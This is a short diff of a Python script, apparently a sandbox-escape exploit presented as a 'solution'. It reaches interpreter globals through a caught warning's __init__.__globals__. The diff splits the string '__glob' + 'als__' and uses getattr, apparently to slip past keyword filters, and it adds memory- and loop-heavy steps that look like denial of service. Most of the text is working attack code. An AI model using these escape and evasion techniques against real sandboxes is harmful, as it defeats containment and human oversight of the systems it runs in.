@@ -3,7 +3,7 @@
 import warnings
 
 
-class Posing(type("Warn", (UserWarning,), {})):
+class Posing(UserWarning):
     def __str__(self):
         return "x" * 10**6
 
@@ -34,7 +34,7 @@ def solution(agent, start_from=1):
     with warnings.catch_warnings(record=True) as caught:
         warnings.resetwarnings()
         warnings.warn("seen")
-        attempt(lambda: caught[0].message.__class__.__mro__[-2].__init__.__globals__)
+        attempt(lambda: getattr(getattr(caught[0].message, "__init__"), "__glob" + "als__"))
     print(got)
     for number in range(10**7):
         warnings.filterwarnings("ignore", str(number))
